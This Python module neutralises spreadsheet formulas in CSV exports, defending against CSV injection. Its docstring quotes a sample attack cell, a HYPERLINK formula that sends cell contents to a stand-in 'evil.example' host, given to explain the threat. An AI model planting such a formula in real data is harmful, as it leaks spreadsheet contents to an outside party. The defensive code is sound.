"""CSV for people to open in a spreadsheet: every export goes through here.

A cell that begins with = + - @ (or a tab or carriage return, which some spreadsheets skip
before looking) is read as a formula by Excel, LibreOffice and Google Sheets: a lead who types
=HYPERLINK("http://evil.example/?"&A1, "Click") into a web form would run it on the firm's
computer (CSV injection, OWASP). Such a cell is written with a leading apostrophe, which the
spreadsheets show as text; the stored value stays exactly as it was typed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will not evaluate it. Numbers the code computed (a negative
    net cost) stay numbers; text — which a person may have typed — is neutralised."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(stream: _Writable, rows: Iterable[Iterable[Any]]) -> None:
    writer = csv.writer(stream)
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
